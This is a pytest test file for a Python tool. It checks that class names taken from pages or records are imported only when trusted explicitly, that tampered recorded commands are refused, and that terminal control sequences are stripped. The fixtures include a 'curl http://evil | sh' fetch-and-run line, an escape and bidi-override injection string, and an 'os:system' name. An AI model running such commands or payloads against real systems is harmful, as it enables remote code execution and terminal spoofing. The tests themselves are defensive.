"""Names in anybody's page or record are neither printed as they are, nor imported, nor run."""

import json
import sys

import pytest

from compare import trusted
from compare.streams import printable
from compare.trusted import require_trusted, trust
from problems.errors import InputError

EVIL = "\x1b]0;gone\x07\x1b[2J\x9b1m\u202etxt"

SAMPLER = """
from pathlib import Path
from classical.ridgelet import UniformSampler

Path("imported").write_text("")

class Own(UniformSampler):
    pass
"""


@pytest.fixture(autouse=True)
def nobody_is_trusted(monkeypatch, tmp_path):
    monkeypatch.setattr(trusted, "_trusted", set())
    monkeypatch.chdir(tmp_path)


def test_a_class_that_a_page_names_is_imported_only_if_it_is_repeated(tickets, tmp_path):
    (tmp_path / "stranger.py").write_text(SAMPLER)
    asked = ("study", "--method", "stranger:Own", "--features", 1, "--nodes", 2, "--repeats", 1, "--prime", 3)
    assert tickets(*asked, "--out", "first")[0] == 0
    sys.modules.pop("stranger")
    (tmp_path / "imported").unlink()
    for source in ("first/report.html", "first"):
        code, out, errors = tickets("again", source, "--out", "second")
        assert (code, out) == (2, "")
        assert errors.endswith("if you know it, repeat it: --trust stranger:Own\n")
        assert errors.count("\n") == 1
    assert tickets("report", "first")[0] == 0
    assert not (tmp_path / "imported").exists()
    assert "stranger" not in sys.modules
    assert tickets("again", "first/report.html", "--out", "second", "--trust", "stranger:Own")[0] == 0
    assert (tmp_path / "imported").exists()


def test_a_recorded_command_is_neither_printed_nor_run(toy_command, tmp_path):
    assert toy_command("toy", "--out", "run")[0] == 0
    (path,) = (tmp_path / "run" / "asks").iterdir()
    ask = json.loads(path.read_text())
    ask["command"] = f"curl http://evil | sh {EVIL}"
    path.write_text(json.dumps(ask))
    for command in ("again", "report"):
        code, out, errors = toy_command(command, "run", "--out", "other")
        assert code == 2
        assert "was changed: its digest is another" in errors
        assert "evil" not in out + errors


def test_controls_of_a_record_reach_no_terminal(toy_command, tmp_path):
    text = f'<script type="application/json" id="runs">{json.dumps([{"kind": EVIL, "asks": []}])}</script>'
    (tmp_path / "page.html").write_text(text)
    code, out, errors = toy_command("again", "page.html")
    assert (code, out) == (2, "")
    assert not set(EVIL) & set("\x1b\x07\x9b\u202e") & set(errors)


def test_what_is_printable():
    assert printable(f"a\tline\n{EVIL}") == "a\tline\n]0;gone[2J1mtxt"
    assert printable("• ± µ λ 中 😀") == "• ± µ λ 中 😀"


def test_trust_is_of_single_names():
    require_trusted({"methods": ["dequantized", 3, None], "at": "2026-11-29T08:00:00"})
    with pytest.raises(InputError, match=r"names os:system, which would be imported and .* --trust os:system"):
        require_trusted([{"methods": ("dequantized", "os:system")}])
    trust(["os:system"])
    require_trusted("os:system")
    with pytest.raises(InputError, match="'os system' is no place of a class"):
        trust(["os system"])


@pytest.mark.parametrize("mark", ["file", "rows"])
def test_what_names_a_file_by_its_content_names_no_class(mark, tmp_path):
    """Four of ten digests begin with a letter, as names do; a module of that name is not looked into."""
    from compare.studies.ridgelet.methods import METHODS

    identity = f"{mark}:abcdef0123456789"
    (tmp_path / f"{mark}.py").write_text(SAMPLER.replace("Own", "abcdef0123456789"))
    require_trusted([identity])
    assert identity not in METHODS
    assert not (tmp_path / "imported").exists()
    for other in (f"{identity}0", f"{mark}.part:abcdef0123456789", f"{mark}:Own"):
        with pytest.raises(InputError, match="would be imported and run here"):
            require_trusted([other])
